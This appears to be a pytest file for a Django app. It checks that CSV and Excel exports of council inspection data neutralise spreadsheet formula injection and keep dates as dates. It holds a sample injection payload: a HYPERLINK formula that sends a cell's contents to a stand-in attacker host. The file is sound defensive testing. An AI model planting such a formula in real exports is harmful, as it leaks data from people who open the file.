"""Exports never carry formulas: text a user typed reaches a spreadsheet as text, dates as dates."""

import csv
import datetime
import io
import zipfile

import pytest
from django.urls import reverse

from inspections.exports import csv_cell, write_csv, write_xlsx
from inspections.models import Council

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"Rutland")'


@pytest.fixture
def evil_rutland():
    council = Council.objects.get(name="Rutland")
    council.name = EVIL  # as an admin could type it
    council.save()
    return council


def export(client, export_format):
    return client.get(reverse("inspections:council_list"), {"_export": export_format})


def test_a_formula_in_a_council_name_reaches_the_csv_as_text(analyst_client, evil_rutland):
    rows = list(csv.reader(io.StringIO(export(analyst_client, "csv").content.decode("utf-8-sig"))))
    names = [row[0] for row in rows]
    assert "'" + EVIL in names
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_a_formula_in_a_council_name_reaches_excel_as_a_string_and_dates_as_dates(analyst_client, evil_rutland):
    from openpyxl import load_workbook

    body = export(analyst_client, "xlsx").content
    sheet_xml = zipfile.ZipFile(io.BytesIO(body)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(body)).active
    rows = list(sheet.iter_rows())
    header = [c.value for c in rows[0]]
    evil = next(row for row in rows if row[0].value == EVIL)
    assert evil[0].data_type == "s"
    wirral = next(row for row in rows if row[0].value == "Wirral")
    published = wirral[header.index("Published")]
    assert published.is_date and published.value.date() == datetime.date(2024, 2, 2)


@pytest.mark.parametrize("text", ["=1+1", "+44 151", "-2+3", "@SUM(A1)", "\tindent", "\rreturn"])
def test_every_formula_start_is_neutralised_in_csv(text):
    assert csv_cell(text) == "'" + text
    assert next(csv.reader(io.StringIO(write_csv([[text]]).decode("utf-8-sig"), newline=""))) == ["'" + text]


def test_numbers_and_plain_text_are_left_alone():
    assert csv_cell(-3) == -3 and csv_cell("Wirral") == "Wirral" and csv_cell(datetime.date(2024, 2, 2)) == "2024-02-02"
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(write_xlsx([["n", "t"], [-3, "=1+1"]], title="T"))).active
    number, text = list(sheet.iter_rows())[1]
    assert number.value == -3 and number.data_type == "n"
    assert text.value == "=1+1" and text.data_type == "s"
